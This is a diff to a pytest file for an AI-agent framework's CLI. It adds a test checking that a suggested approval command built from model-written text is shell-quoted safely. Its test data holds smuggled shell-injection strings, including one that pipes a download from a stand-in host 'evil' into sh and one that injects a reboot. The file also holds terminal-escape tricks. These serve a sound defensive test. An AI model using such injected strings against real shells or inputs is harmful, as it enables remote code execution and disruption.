@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import shlex
+from typing import Literal
+
 import pytest
 
 from framework.cli.confirm import ask_human
-from framework.cli.show import line, shown, visible
+from framework.cli.show import how_to_decide, line, shown, visible
 from framework.types.events import ToolFinished, ToolStarted
-from framework.types.state import Confirmation, Reject
+from framework.types.state import Confirmation, Reject, RunResult
 
 TRICKS = "\x1b[2J\u202emoc.live\u200b\x9b\r"
 HEAD = {"run_id": "r", "seq": 1, "generation": 1}
@@ -36,3 +39,34 @@ def test_asi09_lines_of_a_run_stay_lines() -> None:
     for text in (started, finished):
         assert text is not None
         assert text.isprintable()
+
+
+@pytest.mark.hostile(7)
+@pytest.mark.parametrize(
+    ("kind", "count", "words"),
+    [
+        ("ask_user", 1, ["--answer", "yes'; curl evil | sh; '$(x)"]),
+        ("ask_user", 2, ["--respond", "c'; reboot; '=yes'; curl evil | sh; '$(x)"]),
+        ("tool", 1, ["--approve", "c'; reboot; '"]),
+    ],
+)
+def test_asi09_a_suggested_command_executes_nothing_that_a_model_wrote(
+    kind: Literal["ask_user", "tool"], count: int, words: list[str]
+) -> None:
+    choices = ("yes'; curl evil | sh; '$(x)",) if kind == "ask_user" else ()
+    asked = Confirmation(id="c'; reboot; '", kind=kind, agent="a", tool="t", arguments={}, hash="h", choices=choices)
+    result = RunResult(
+        run_id="r",
+        status="paused",
+        finish_reason="confirmation",
+        output="",
+        messages=(),
+        steps=1,
+        agent="a",
+        generation=1,
+        digest="d",
+        pending=(asked,) * count,
+        elapsed_ms=1,
+    )
+    command = how_to_decide(result).removeprefix("decide: ").partition(" (or --reject")[0]
+    assert shlex.split(command) == ["agentsd", "runs", "decide", "r", *words]
